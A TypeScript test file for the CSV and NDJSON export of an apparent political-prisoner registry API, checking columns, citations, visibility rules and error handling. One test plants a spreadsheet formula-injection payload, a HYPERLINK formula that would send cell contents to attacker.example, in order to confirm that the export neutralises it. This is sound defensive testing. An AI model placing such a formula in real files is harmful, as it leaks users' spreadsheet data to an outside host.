import { parse } from 'csv-parse/sync'
import t from 'tap'
import { CitationView, FieldView, PrisonerDocument } from '../../../src/core/document/fields'
import { PrisonerWriteDto } from '../../../src/modules/prisoners/prisoners.dto'
import { PrisonersService } from '../../../src/modules/prisoners/prisoners.service'
import { CreateSourceDto } from '../../../src/modules/sources/sources.dto'
import { SourcesService } from '../../../src/modules/sources/sources.service'
import { validateDto } from '../../../src/shared/dto'
import { SEED, TestApp, buildTestApp } from '../../helpers/test-app'
import type { Actor } from '../../../src/core/access/actors'

/** Records written straight through the service, as the seed writes them. */
const TEST_ACTOR: Actor = { name: 'test', key: null, role: 'seed' }

const TODAY = new Date().toISOString().slice(0, 10)

/** The body of a download as text (supertest buffers only JSON and text/* by itself). */
function text(res: { body: unknown; text?: string }): string {
  return Buffer.isBuffer(res.body) ? res.body.toString('utf8') : (res.text ?? '')
}

async function download(http: TestApp['http'], format: string) {
  return http
    .get(`/v1/export?format=${format}`)
    .buffer(true)
    .parse((res, done) => {
      const chunks: Buffer[] = []
      res.on('data', (chunk: Buffer) => chunks.push(chunk))
      res.on('end', () => done(null, Buffer.concat(chunks)))
    })
}

async function recordOf(http: TestApp['http'], id: string): Promise<{ text: string; body: PrisonerDocument }> {
  const res = await http.get(`/v1/prisoners/${id}`)
  return { text: res.text, body: res.body }
}

function csvRows(csv: string): Record<string, string>[] {
  return parse(csv, { bom: true, columns: true, record_delimiter: '\r\n', skip_empty_lines: false })
}

/** A cell back to its value: the export adds one apostrophe in front of cells that could run as formulas. */
const unescape = (cell: string) => (cell.startsWith("'") ? cell.slice(1) : cell)

// What the CSV should say, computed here from the JSON record rather than with the export's own code.
const cite = (c: CitationView) =>
  `${c.sourceId}${c.start === null ? '[]' : `[${c.start}:${c.end}]`} ${JSON.stringify(c.quote)}${c.note ? ` note ${JSON.stringify(c.note)}` : ''}`
const cites = (field: FieldView) => field.citations.map(cite).join(' | ')
const str = (value: unknown) => (value === null || value === undefined ? '' : String(value))

function expectedRow(record: PrisonerDocument): Record<string, string> {
  const sentence = record.sentence.value as { text: string; termMonths?: number; sentencedIn?: string; charges?: string[] } | null
  const destination = record.destination.value as { country: string; place?: string } | null
  return {
    id: record.id,
    version: String(record.version),
    name: str(record.name.value),
    name_alternatives: record.name.alternatives.map((a) => a.value).join(' | '),
    nationality: str(record.nationality.value),
    status: str(record.status.value),
    sentence_text: str(sentence?.text),
    sentence_term_months: str(sentence?.termMonths),
    sentence_sentenced_in: str(sentence?.sentencedIn),
    sentence_charges: (sentence?.charges ?? []).join(' | '),
    release_date: str(record.releaseDate.value),
    destination_country: str(destination?.country),
    destination_place: str(destination?.place),
    events: (record.events ?? []).map((event) => event.id).join(' | '),
    created_at: record.createdAt,
    updated_at: record.updatedAt,
    name_citations: cites(record.name),
    name_alternatives_citations: record.name.alternatives.map((a) => a.citations.map(cite).join(' | ')).join(' || '),
    nationality_citations: cites(record.nationality),
    status_citations: cites(record.status),
    sentence_citations: cites(record.sentence),
    release_date_citations: cites(record.releaseDate),
    destination_citations: cites(record.destination),
    arrest_date: str(record.arrestDate.value),
    arrest_date_citations: cites(record.arrestDate),
    recognition_by: '',
    recognition_date: '',
    recognition_citations: cites(record.recognition),
  }
}

t.test('ndjson: every record, one per line, exactly as GET /v1/prisoners/{id} serves it, in id order', async (t) => {
  const { http } = await buildTestApp(t)
  const res = await download(http, 'ndjson')
  t.equal(res.status, 200)
  t.equal(res.headers['content-type'], 'application/x-ndjson')
  t.equal(res.headers['content-disposition'], `attachment; filename="prisoners-${TODAY}.ndjson"`)
  t.equal(res.headers['cache-control'], 'public, max-age=300')
  t.equal(res.headers['access-control-allow-origin'], '*')
  const body = text(res)
  t.ok(body.endsWith('\n'), 'the last line ends too')
  const lines = body.slice(0, -1).split('\n')
  t.equal(lines.length, 14)
  const ids = lines.map((line) => JSON.parse(line).id as string)
  t.same(ids, [...ids].sort(), 'ordered by id')
  for (const line of lines) {
    const one = await recordOf(http, JSON.parse(line).id)
    t.equal(line, one.text, `line of ${JSON.parse(line).id} is the record's read document`)
  }
})

t.test('csv: one row per record, values and citations readable and traceable', async (t) => {
  const { http } = await buildTestApp(t)
  const res = await download(http, 'csv')
  t.equal(res.status, 200)
  t.equal(res.headers['content-type'], 'text/csv; charset=utf-8')
  t.equal(res.headers['content-disposition'], `attachment; filename="prisoners-${TODAY}.csv"`)
  t.equal(res.headers['cache-control'], 'public, max-age=300')
  const csv = text(res)
  t.ok(csv.startsWith('\ufeffid,version,name,name_alternatives,'), 'UTF-8 byte-order mark, then the header row')
  t.ok(csv.endsWith('\r\n'), 'rows end with CRLF')

  const rows = csvRows(csv)
  t.equal(rows.length, 14)
  t.same(
    Object.keys(rows[0]),
    [
      'id', 'version', 'name', 'name_alternatives', 'nationality', 'status', 'sentence_text', 'sentence_term_months',
      'sentence_sentenced_in', 'sentence_charges', 'release_date', 'destination_country', 'destination_place', 'identifiers', 'arrest_date', 'recognition_by', 'recognition_date', 'events', 'created_at',
      'updated_at', 'name_citations', 'name_alternatives_citations', 'nationality_citations', 'nationality_alternatives',
      'nationality_alternatives_citations', 'status_citations', 'status_alternatives', 'status_alternatives_citations',
      'sentence_citations', 'sentence_alternatives', 'sentence_alternatives_citations', 'release_date_citations',
      'release_date_alternatives', 'release_date_alternatives_citations', 'destination_citations', 'destination_alternatives',
      'destination_alternatives_citations', 'identifiers_citations', 'identifiers_alternatives', 'identifiers_alternatives_citations',
      'arrest_date_citations', 'arrest_date_alternatives', 'arrest_date_alternatives_citations',
      'recognition_citations', 'recognition_alternatives', 'recognition_alternatives_citations',
    ],
  )
  for (const row of rows) {
    const { body: record } = await recordOf(http, row.id)
    const expected = expectedRow(record)
    const actual = Object.fromEntries(Object.keys(expected).map((column) => [column, unescape(row[column])]))
    t.same(actual, expected, `row of ${row.id}`)
  }

  // Spot checks a person would make.
  const tsikhanouski = rows.find((row) => row.id === SEED.tsikhanouski)!
  t.equal(tsikhanouski.name, 'Siarhei Tsikhanouski')
  t.equal(tsikhanouski.name_alternatives, 'Syarhei Tsikhanouski')
  t.equal(tsikhanouski.sentence_term_months, '234')
  t.equal(tsikhanouski.sentence_charges, 'organising mass unrest | inciting hatred')
  t.match(tsikhanouski.name_citations, new RegExp(`^${SEED.articleA}\\[\\d+:\\d+\\] "Fourteen political prisoners, including`))
  t.match(tsikhanouski.release_date_citations, `${SEED.rbc}[] "21 June 2025" note "Unverified:`, 'a source without archived text: no offsets')
  const karnei = rows.find((row) => row.id === SEED.karnei)!
  t.equal(karnei.name, 'Ihar Karnei')
  t.equal(karnei.name_alternatives, 'Ihar Karney')
  t.match(karnei.name_alternatives_citations, `${SEED.articleA}[`)
  const unnamed = rows.filter((row) => row.name === '')
  t.equal(unnamed.length, 8, 'records of people not yet identified keep an empty name')
  t.ok(unnamed.every((row) => row.status === 'released' && row.status_citations !== ''), 'and their other cited fields')
})

t.test('csv: a cell that a spreadsheet would run as a formula is neutralised', async (t) => {
  const { http, database } = await buildTestApp(t)
  const hostile = '=HYPERLINK("https://attacker.example/?leak="&A1,"Ihar")'
  const source = await new SourcesService(database).create(
    validateDto(CreateSourceDto, { title: 'A hostile page', kind: 'other', content: `The list names ${hostile} among the freed.` }, 'body'),
    { actor: TEST_ACTOR },
  )
  const cited = (quote: string) => [{ sourceId: source.id, quote }]
  const written = await new PrisonersService(database).create(
    validateDto(
      PrisonerWriteDto,
      {
        name: { value: hostile, citations: cited(hostile), alternatives: [{ value: "'quoted", citations: cited('The list names') }] },
        status: { value: 'released', citations: cited('among the freed') },
      },
      'body',
    ),
    { actor: TEST_ACTOR },
  )
  const rows = csvRows(text(await download(http, 'csv')))
  t.equal(rows.length, 15)
  const row = rows.find((r) => r.id === written.id)!
  t.equal(row.name, `'${hostile}`, 'a leading apostrophe makes the spreadsheet show it as text')
  t.equal(row.name_alternatives, "''quoted", 'a cell that starts with an apostrophe gets one more, so the rule can be undone')
  for (const [column, cell] of Object.entries(row)) {
    t.notOk(/^[=+\-@\t\r]/.test(cell), `${column} cannot start a formula`)
  }
})

t.test('deleted and unpublished records are not exported', async (t) => {
  const { http, database } = await buildTestApp(t)
  // The visibility rule itself, set directly: the export must apply the same one as lists and reads.
  await database.dataSource.query(database.sql('UPDATE prisoners SET deleted_at = ? WHERE id = ?'), [new Date().toISOString(), SEED.tsikhanouski])
  await database.dataSource.query(database.sql("UPDATE prisoners SET review_status = 'pending' WHERE id = ?"), [SEED.karnei])
  const ids = text(await download(http, 'ndjson'))
    .trim()
    .split('\n')
    .map((line) => JSON.parse(line).id)
  t.equal(ids.length, 12)
  t.notOk(ids.includes(SEED.tsikhanouski), 'a deleted record is absent')
  t.notOk(ids.includes(SEED.karnei), 'a record waiting for review is absent')
  const csvIds = csvRows(text(await download(http, 'csv'))).map((row) => row.id)
  t.same(csvIds, ids)
})

t.test('an empty registry exports a header row, or nothing', async (t) => {
  const { http } = await buildTestApp(t, { seed: false })
  t.equal(text(await download(http, 'csv')).split('\r\n').length, 2, 'the header and the final line break')
  const ndjson = await download(http, 'ndjson')
  t.equal(ndjson.status, 200)
  t.equal(text(ndjson), '')
})

t.test('a missing or unknown format is a 400 problem', async (t) => {
  const { http } = await buildTestApp(t, { seed: false })
  for (const query of ['', '?format=xlsx', '?format=CSV', '?format=csv&format=ndjson', '?format=csv&limit=3']) {
    const res = await http.get(`/v1/export${query}`)
    t.equal(res.status, 400, query || 'no format')
    t.match(res.headers['content-type'], /^application\/problem\+json/)
    t.equal(res.body.type, '/problems/invalid-request')
  }
  const res = await http.get('/v1/export?format=xlsx')
  t.same(res.body.errors, [{ path: 'format', message: 'format must be csv, ndjson or jsonld' }])
})

/** How many rows an iteration has left. */
async function count(rows: AsyncIterable<unknown>): Promise<number> {
  let n = 0
  for await (const _ of rows) n++
  return n
}

t.test('an export in progress holds back neither other reads nor another export', async (t) => {
  const { database } = await buildTestApp(t)
  const sql = 'SELECT id FROM prisoners ORDER BY id'
  const first = database.iterate<{ id: string }>(sql)
  t.equal((await first.next()).done, false, 'the first export has started')
  await database.dataSource.query(database.sql('UPDATE prisoners SET version = version + 100 WHERE id = ?'), [SEED.karnei])
  t.equal(
    (await database.get<{ version: number }>('SELECT version FROM prisoners WHERE id = ?', [SEED.karnei]))?.version,
    101,
    'reads see a write committed while the export runs',
  )
  const second = database.iterate<{ id: string }>(sql)
  t.equal((await count(second)), 14, 'a second export of the same query runs alongside')
  t.equal((await count(first)), 13, 'and the first one finishes')
})
